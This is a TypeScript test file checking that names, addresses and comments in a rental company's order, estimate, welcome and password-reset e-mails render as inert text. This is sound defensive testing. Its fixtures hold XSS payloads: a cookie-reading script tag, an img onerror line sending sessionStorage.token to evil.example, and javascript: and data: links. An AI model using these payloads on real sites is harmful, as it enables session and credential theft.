/**
 * What staff and customers type (company names, product names and descriptions, display names,
 * addresses and comments) reaches e-mails: written as `<script>`, `<img onerror=…>` or a
 * `javascript:` link, it must arrive as text, never as markup or a link. Each HTML part is parsed
 * as a mail client would (jsdom) and checked for what it may contain.
 */
import { estimateTotals } from '@decor/contracts';
import { JSDOM } from 'jsdom';
import type { Email } from '../src/domain/email';
import {
  estimateReceivedEmail,
  newEstimateStaffEmail,
  type SubmittedEstimate,
} from '../src/domain/estimate-emails';
import { type Order, orderEventEmails } from '../src/domain/order-emails';
import { passwordResetEmail } from '../src/domain/password-reset-email';
import { welcomeEmail } from '../src/domain/welcome-email';

const brand = { companyName: 'Gala & Co Event Rentals', baseUrl: 'https://rentals.example' };

const SCRIPT = '<script>alert(document.cookie)</script>';
const IMG = '<img src=x onerror="fetch(`https://evil.example/?`+sessionStorage.token)">';
const JS_LINK = 'javascript:alert(1)';
const ANCHOR = `<a href="${JS_LINK}">Click</a>`;

const company = `Evil ${IMG} Co ${ANCHOR}`;
const productName = `Chair ${SCRIPT}`;
const description = `Nice ${IMG} ${JS_LINK}`;
const street = `1 Main St ${SCRIPT}`;

const ALLOWED_TAGS = new Set([
  'HTML',
  'HEAD',
  'META',
  'TITLE',
  'BODY',
  'H2',
  'H3',
  'P',
  'A',
  'TABLE',
  'TBODY',
  'TR',
  'TD',
  'TH',
  'BR',
  'STRONG',
]);

/** Parses the HTML part and fails on any markup or link that came from the data. */
function expectOnlyText(mail: Email, hostile: string[]) {
  const { document } = new JSDOM(mail.html).window;
  for (const el of Array.from(document.querySelectorAll('*'))) {
    expect({ tag: el.tagName, allowed: ALLOWED_TAGS.has(el.tagName) }).toEqual({
      tag: el.tagName,
      allowed: true,
    });
    for (const attr of Array.from(el.attributes))
      expect({ tag: el.tagName, attr: attr.name }).not.toEqual({
        tag: el.tagName,
        attr: expect.stringMatching(/^on/i),
      });
  }
  for (const a of Array.from(document.querySelectorAll('a')))
    expect(a.getAttribute('href')).toMatch(/^https:\/\/rentals\.example(\/|$)/);
  // Rendered as text: the very characters typed are what the reader sees.
  const shown = document.body.textContent ?? '';
  for (const text of hostile) expect(shown).toContain(text);
  // The plain-text part carries them as they are (no markup is interpreted there).
  for (const text of hostile) expect(mail.text).toContain(text);
}

const lines = [
  { productId: 'CH-1', name: productName, description, qty: 2, priceCents: 500, totalCents: 1000 },
];
const estimate: SubmittedEstimate = {
  estimateId: '6650a1b2c3d4e5f6a7b8c9d0',
  docNumber: '1042',
  status: 'Pending',
  userId: 'u1',
  cartId: 'c1',
  customer: { email: 'ana@example.com', displayName: `Ana ${SCRIPT}`, companyName: company },
  details: {
    customerName: company,
    groupName: `Group ${ANCHOR}`,
    eventDate: '2027-03-13',
    location: street,
    commentsOnSetup: `Setup ${IMG}`,
  },
  lines,
  ...estimateTotals(1000, 35000),
  submittedAt: '2027-03-01T10:00:00.000Z',
};

describe('hostile text typed by staff or customers arrives in e-mails as text', () => {
  it('order request received (customer) and new estimate (staff)', () => {
    const shown = [company, productName, street, `Group ${ANCHOR}`, `Setup ${IMG}`];
    expectOnlyText(estimateReceivedEmail(brand, estimate), shown);
    expectOnlyText(newEstimateStaffEmail(brand, 'staff@rentals.example', estimate), [
      ...shown,
      `Ana ${SCRIPT}`,
    ]);
    expect(newEstimateStaffEmail(brand, 'staff@rentals.example', estimate).subject).not.toMatch(/[\r\n]/);
  });

  it('order lifecycle e-mails to the customer and to the staff', () => {
    const order: Order = {
      orderType: 'estimate',
      id: '6650a1b2c3d4e5f6a7b8c9d0',
      docNumber: '1042',
      userId: 'u1',
      cartId: 'c1',
      status: 'Pending',
      hasBeenModified: true,
      hasInvoice: false,
      isInQbo: false,
      qboId: null,
      customer: estimate.customer,
      details: estimate.details,
      lines,
      ...estimateTotals(1000, 35000),
      revision: 3,
    };
    const toStaff = orderEventEmails(brand, 'staff@rentals.example', {
      type: 'EstimateUpdated',
      payload: { order, actor: { role: 'customer', userId: 'u1' }, changed: ['location'] },
    });
    // The approval e-mail (issue 30: told by the offer, with the deposit and the Review and accept link).
    const toCustomer = orderEventEmails(brand, 'staff@rentals.example', {
      type: 'EstimateOffered',
      payload: {
        order: { ...order, status: 'Open', hasBeenModified: false },
        opened: true,
        depositCents: 9_000,
        expiresAt: '2030-06-01T12:00:00.000Z',
        agreementVersion: 1,
      },
    });
    expect(toStaff.map((m) => m.recipient)).toEqual(['staff']);
    expect(toCustomer.map((m) => m.recipient)).toEqual(['customer']);
    for (const { email } of [...toStaff, ...toCustomer])
      expectOnlyText(email, [company, productName, street]);
  });

  it('welcome and password reset: a hostile name is text, a link that is not http(s) is no link', () => {
    const welcome = welcomeEmail(brand, {
      email: 'ana@example.com',
      displayName: `Ana ${IMG}`,
      setPasswordUrl: 'https://rentals.example/reset/tok',
      expiresAt: '2026-11-30T12:00:00.000Z',
    });
    expectOnlyText(welcome, [`Ana ${IMG}`]);
    expect(welcome.html).toContain('href="https://rentals.example/reset/tok"');

    for (const url of [
      JS_LINK,
      ' JavaScript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      '//evil.example',
    ]) {
      const reset = passwordResetEmail(brand, {
        email: 'ana@example.com',
        displayName: `Ana ${SCRIPT}`,
        resetUrl: url,
      });
      expectOnlyText(reset, [`Ana ${SCRIPT}`]);
      const links = Array.from(new JSDOM(reset.html).window.document.querySelectorAll('a'));
      expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://rentals.example']);
      const joined = welcomeEmail(brand, {
        email: 'a@b.c',
        displayName: '',
        setPasswordUrl: url,
        expiresAt: '',
      });
      expectOnlyText(joined, []);
    }
  });
});
